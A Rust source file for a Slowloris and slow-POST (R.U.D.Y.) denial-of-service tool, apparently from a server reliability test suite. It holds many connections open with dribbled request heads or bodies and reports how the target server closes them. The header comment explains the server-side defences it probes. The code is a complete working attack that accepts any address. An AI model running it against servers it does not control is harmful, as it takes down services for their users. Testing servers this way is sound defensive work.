//! Slowloris: keeps `--conns` connections open, each sending a request head
//! one byte every `--interval-ms` and never finishing it, until the server
//! closes it (or `--max-secs` pass). For the first `--reopen-secs`, every
//! connection the server closes is replaced by a new one, so the pressure
//! lasts. Prints how many the server closed, how many of those got a `408`
//! first, and how long each took from its first byte. Connections are opened
//! between dribbling rounds, a connect that fails (after 200 ms) is tried
//! again in a later round, so the open ones keep to their schedule.
//!
//! With `--body-len N` it is a slow POST instead (R.U.D.Y.): each connection
//! sends a whole `POST /echo` head with `Content-Length: N` at once, then
//! dribbles the body, `--chunk` bytes every `--interval-ms`.
//!
//! ```text
//! slowloris --addr 127.0.0.1:18180 [--conns 1000] [--interval-ms 2000]
//!           [--reopen-secs 0] [--max-secs 60] [--body-len 0] [--chunk 1]
//! ```
//!
//! A server defends itself with a deadline for the whole head, and with a
//! minimum data rate for a body: a per-read timeout never fires, since bytes
//! arrive every few seconds.

use std::io::{self, Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use sylar_reliability::{Args, spread};

const USAGE: &str = "--addr HOST:PORT [--conns 1000] [--interval-ms 2000] [--reopen-secs 0] \
                     [--max-secs 60] [--body-len 0] [--chunk 1]";

/// How long one round may spend opening connections.
const OPENING: Duration = Duration::from_millis(100);

/// How long a connect may wait: on loopback it takes well under a
/// millisecond, unless the SYN was dropped, and then a second at least.
const CONNECT_TIMEOUT: Duration = Duration::from_millis(200);

/// What each connection sends: the start of a head that never ends, or a
/// whole head promising a body that comes slowly.
#[derive(Clone, Copy)]
struct Plan {
    /// 0: dribble the head; otherwise the `Content-Length` of a slow body.
    body_len: u64,
    /// Bytes sent every interval (of the head, or of the body).
    chunk: usize,
    interval: Duration,
}

/// One slow client.
struct Slow {
    /// Dropped (closed) once the server has closed its side.
    stream: Option<TcpStream>,
    /// When its first bytes went out.
    started: Instant,
    /// When it next sends a byte.
    next: Instant,
    /// Bytes dribbled so far (after the first write).
    sent: u64,
    /// What the server sent back.
    answer: Vec<u8>,
    /// How it ended: `Some((after, reset))` once the server closed it.
    closed: Option<(Duration, bool)>,
}

fn main() {
    let args = Args::parse("slowloris", USAGE);
    let addr = args.addr();
    let conns: usize = args.get("conns", 1000);
    let interval = Duration::from_millis(args.get("interval-ms", 2000));
    let reopen = Duration::from_secs(args.get("reopen-secs", 0));
    let max = Duration::from_secs(args.get("max-secs", 60));
    let plan = Plan {
        body_len: args.get("body-len", 0),
        chunk: args.get::<usize>("chunk", 1).max(1),
        interval,
    };
    let dribble = vec![b'a'; plan.chunk];

    let mut slow: Vec<Slow> = Vec::with_capacity(conns);
    let mut connect_failed = 0;
    // Connections still to open: the first `conns`, then replacements. They
    // are opened between dribbling rounds, a few at a time, so that a connect
    // left waiting (a SYN dropped by a full listen queue is resent only after
    // a second) never holds up the bytes the open ones are due.
    let mut pending = conns;
    // Set once the first `conns` are open: `--reopen-secs` and `--max-secs`
    // count from here.
    let mut begin: Option<Instant> = None;
    let start = Instant::now();
    let mut buf = [0u8; 1024];
    while (slow.iter().any(|s| s.closed.is_none()) || begin.is_none())
        && begin.unwrap_or(start).elapsed() < max
    {
        let now = Instant::now();
        let mut replace = 0;
        for s in slow.iter_mut().filter(|s| s.closed.is_none()) {
            let Some(stream) = s.stream.as_mut() else {
                continue;
            };
            loop {
                match stream.read(&mut buf) {
                    Ok(0) => s.closed = Some((now - s.started, false)),
                    Ok(n) => {
                        s.answer.extend_from_slice(&buf[..n]);
                        continue;
                    }
                    Err(e) if e.kind() == io::ErrorKind::WouldBlock => {}
                    Err(e) if e.kind() == io::ErrorKind::Interrupted => continue,
                    Err(_) => s.closed = Some((now - s.started, true)),
                }
                break;
            }
            if s.closed.is_some() {
                // Closed: its socket goes now, a fresh client may take its place.
                s.stream = None;
                replace += 1;
            } else if now >= s.next {
                s.next = now + interval;
                // Never past the promised length: a finished body is answered.
                let left = match plan.body_len {
                    0 => dribble.len(),
                    len => (len - s.sent).min(dribble.len() as u64) as usize,
                };
                // A failed write means the server is gone: the read says how.
                if let Ok(n) = stream.write(&dribble[..left]) {
                    s.sent += n as u64;
                }
            }
        }
        match begin {
            Some(b) if b.elapsed() >= reopen => pending = 0,
            _ => pending += replace,
        }
        // At most OPENING of connects per round; a failed one is tried again.
        let opening = Instant::now();
        while pending > 0 && opening.elapsed() < OPENING {
            match open(addr, plan) {
                Ok(s) => {
                    slow.push(s);
                    pending -= 1;
                }
                Err(e) => {
                    connect_failed += 1;
                    if connect_failed == 1 {
                        eprintln!("slowloris: connect (tried again): {e}");
                    }
                }
            }
        }
        if begin.is_none() && pending == 0 {
            begin = Some(Instant::now());
            println!("slowloris: {} connections open, dribbling", slow.len());
            io::stdout().flush().ok();
        }
        std::thread::sleep(Duration::from_millis(20));
    }

    let closed: Vec<&Slow> = slow.iter().filter(|s| s.closed.is_some()).collect();
    let got_408 = closed
        .iter()
        .filter(|s| s.answer.starts_with(b"HTTP/1.1 408 "))
        .count();
    let resets = closed.iter().filter(|s| s.closed.unwrap().1).count();
    let mut after: Vec<u64> = closed
        .iter()
        .map(|s| s.closed.unwrap().0.as_millis() as u64)
        .collect();
    let (min, median, max) = spread(&mut after);
    let sent_max = closed.iter().map(|s| s.sent).max().unwrap_or(0);
    println!(
        "slowloris: conns={conns} opened={} connect_failed={connect_failed} closed={} \
         got_408={got_408} reset={resets} still_open={} \
         closed_after_ms_min={min} closed_after_ms_median={median} closed_after_ms_max={max} \
         sent_max={sent_max}",
        slow.len(),
        closed.len(),
        slow.len() - closed.len(),
    );
}

/// A new slow client: connected, the first bytes of a head sent (or, for a
/// slow body, the whole head).
fn open(addr: std::net::SocketAddr, plan: Plan) -> io::Result<Slow> {
    let mut stream = TcpStream::connect_timeout(&addr, CONNECT_TIMEOUT)?;
    match plan.body_len {
        0 => stream.write_all(b"GET /hello HTTP/1.1\r\nHost: slow\r\nX-Slow: ")?,
        len => stream.write_all(
            format!("POST /echo HTTP/1.1\r\nHost: slow\r\nContent-Length: {len}\r\n\r\n")
                .as_bytes(),
        )?,
    }
    stream.set_nonblocking(true)?;
    let now = Instant::now();
    Ok(Slow {
        stream: Some(stream),
        started: now,
        next: now + plan.interval,
        sent: 0,
        answer: Vec::new(),
        closed: None,
    })
}
